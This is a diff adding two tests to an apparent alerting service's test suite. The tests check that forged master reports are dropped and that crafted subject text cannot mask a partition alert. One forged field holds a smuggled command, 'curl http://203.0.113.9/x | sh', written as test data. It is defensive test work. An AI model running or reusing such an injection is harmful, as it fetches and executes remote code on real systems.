@@ -224,6 +224,28 @@ def test_nodes_that_both_live_and_call_each_other_dead_are_told_as_apart(world):
     assert [each["kind"] for each in world.told] == ["alert", "update", "recovery"]
 
 
+def test_a_gateway_that_reports_in_the_masters_name_is_refused_and_counted(world):
+    lie = made(1, beacon="master", condition="apart", subject="winterthur; curl http://203.0.113.9/x | sh #")
+    offer(world, lie, made(2, beacon="master", condition="alert_path", once=True, severity="info"))
+    world.service._publish("since", [GW1], [0, ""])
+    step(world)
+    answer(world, "since", GW1, {"journal": lie.journal, "newest": 1, "taken": 0, "events": [wire(lie)]})
+    step(world)
+    assert world.told == [] and world.service.status(world.now)["dropped"]["the master's"] == 3
+
+
+def test_no_text_of_a_gateway_hides_that_its_nodes_are_apart(world):
+    """The search went by a piece of the condition's key, and the subject, any text, is a piece of it."""
+    offer(world, made(1, subject="x|master|apart|x", severity="info"))
+    step(world)
+    for minion, other in ((GW1, "gw2"), (GW2, "gw1")):
+        offer(world, made(2, minion=minion, beacon="heartbeat", condition="peer_dead", subject=other,
+                          severity="critical"))
+    step(world, 1)
+    assert world.service._machine.open_now("master", "apart")
+    assert "do not hear each other" in str(world.told)
+
+
 def test_what_was_taken_is_said_to_the_nodes_in_one_word(tmp_path):
     world = start(World(), tmp_path, rank=0)
     world.service._last["mark"] = 0
